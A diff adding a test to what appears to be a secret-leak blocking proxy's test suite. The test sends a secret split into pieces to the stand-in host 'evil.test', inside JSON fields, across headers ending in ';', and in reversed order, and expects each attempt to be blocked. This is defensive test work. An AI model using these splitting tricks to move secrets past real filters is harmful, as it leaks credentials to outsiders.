@@ -111,6 +111,16 @@ print(r.status_code, r.text)
     expect(B.wireFor("evil.test", mark).toString("latin1")).not.toContain(B.secret.slice(cut));
   });
 
+  test("pieces that are not at a field's end (found by red-teaming): inside JSON, and behind a ;", async () => {
+    const cut = 16;
+    const first = await raw("evil.test", "POST", "/json1", [["Content-Type", "application/json"]], JSON.stringify({ a: B.secret.slice(0, cut), pad: "x" }));
+    expect(first.status).toBe(200);
+    expectBlocked(await raw("evil.test", "POST", "/json2", [["Content-Type", "application/json"]], JSON.stringify({ b: B.secret.slice(cut), pad: "y" })));
+    expectBlocked(await raw("evil.test", "GET", "/h2", [["X-A", `${B.secret.slice(0, 12)};`], ["X-B", `${B.secret.slice(12)};`]]));
+    // The rest first, then the first piece, in one body.
+    expectBlocked(await raw("evil.test", "POST", "/json3", [["Content-Type", "application/json"]], JSON.stringify({ b: B.secret.slice(cut), a: B.secret.slice(0, cut) })));
+  });
+
   test("gzip without a Content-Encoding header, with Node", async () => {
     const mark = B.upstream.wire.length;
     const script = `
